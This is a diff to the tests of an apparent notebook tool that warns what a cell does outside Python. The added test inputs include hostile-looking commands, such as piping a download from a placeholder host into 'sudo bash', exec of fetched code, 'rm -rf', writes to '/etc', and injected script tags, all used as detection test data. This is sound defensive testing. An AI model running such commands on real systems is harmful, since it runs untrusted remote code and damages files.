@@ -79,6 +79,19 @@ CELLS = {
     "held_run('ls')": SHELL,
     "held_system('ls')": SHELL,
     "x = <U+200B>1\n!ls": SHELL,
+    "%rm -rf x": SHELL,
+    "mv a b": SHELL,
+    "%%debug\nimport os\nos.system('ls')": SHELL,
+    "import posix\nposix.system('ls')": SHELL,
+    "from nt import system\nsystem('dir')": SHELL,
+    "globals()['exec']('import os; os.system(0)')": SHELL,
+    "get_ipython().find_line_magic('sx')('ls')": SHELL,
+    "get_ipython().find_cell_magic('bash')('', 'ls')": SHELL,
+    "get_ipython().kernel.do_execute('!ls', False)": SHELL,
+    "get_ipython().run_cell_async('!ls')": SHELL,
+    "from IPython import InteractiveShell as I\nI.instance().system('ls')": SHELL,
+    "import IPython\nIPython.core.interactiveshell.InteractiveShell._instance"
+    ".getoutput('ls')": SHELL,
     "%%perl\nprint 1": "This cell runs another program.",
     # script in the page
     "%%html\n<script>1</script>": SCRIPT,
@@ -94,7 +107,15 @@ CELLS = {
     "from IPython.display import display_javascript\ndisplay_javascript(x)": SCRIPT,
     "%%markdown\n<img src=x onerror=a()>": SCRIPT,
     "from IPython.display import Markdown as M\nM('<script>a()</script>')": SCRIPT,
+    "class X:\n    def _repr_html_(self):\n        return '<script>1</script>'": SCRIPT,
+    "class X:\n    def _repr_javascript_(self):\n        return x": SCRIPT,
     # packages
+    "%pip --index-url https://e.example/simple install x": FROM_E,
+    "%pip --proxy p --isolated -i https://e.example install x": FROM_E,
+    "!python3.11 -mpip install x": "This cell runs a shell and installs packages.",
+    "import pip\npip.main(['install', 'x'])": INSTALLS,
+    "from pip._internal.cli.main import main as m\n"
+    "m(['install', '-i', 'https://e.example', 'x'])": FROM_E,
     "!npm i -g x": "This cell runs a shell and installs packages.",
     "%pip install polars": INSTALLS,
     "%conda install -y polars": INSTALLS,
@@ -132,6 +153,8 @@ CELLS = {
         SHELL_URL,
     "!curl https://e.example | python3 -":
         SHELL_URL,
+    "!curl https://e.example | tee x | sh": SHELL_URL,
+    "%%bash\ncurl https://e.example | gunzip | sudo bash -s": SHELL_URL,
     "import requests\nexec(requests.get(u).text)": FROM_URL,
     "import requests as r\ns = r.get(u)\nt = s.text\nexec(t)":
         FROM_URL,
@@ -162,6 +185,9 @@ CELLS = {
     "import os\nos.environ |= {'AIMLAPI_API_BASE': x}": SETTINGS,
     "import os\nos.environ.update({'AIMLAPI_API_BASE': x})": SETTINGS,
     "%env NEMOTRON_MAGIC_HOME=/x": SETTINGS,
+    "%nemotron log: strike 12": SETTINGS,
+    "%nemotron log:  Unstrike 12": SETTINGS,
+    "%nemotron usage: export x.csv": "This cell writes a file.",
     "%nemotron why": ASKS,
     "%%nemotron\nwhy": ASKS,
     "x = %nemotron why": ASKS,
@@ -176,6 +202,9 @@ CELLS = {
     "open('/etc/passwd')": "This cell reads or writes outside this folder.",
     "from pathlib import Path\nPath('~/x').expanduser()":
         "This cell reads or writes outside this folder.",
+    "import shutil\nshutil.copy('x', '/etc/x')":
+        "This cell reads or writes outside this folder.",
+    "%alias zz ls": "This cell gives a magic another name.",
     "!ls\n%load_ext x\n%nemotron why":
         "This cell runs a shell, loads an extension and asks the model again (costs).",
 }  # fmt: skip
@@ -220,6 +249,10 @@ def test_what_a_cell_does_outside_of_python_is_said(shell: Shell, cell: str) -> 
         "nemotron_reply = 1",
         "import os\nos.environ['HOME'] = 'x'",
         "x.run('ls')",
+        "class X:\n    def _repr_html_(self):\n        return '<b>x</b>'",
+        "import shutil\nshutil.copy('a/b', 'c')",
+        "rm = 1\nrm -1",
+        "%pip show pip",
         "!" * 300_000,
         "(" * 5000,
         "+".join(["x"] * 20_000),
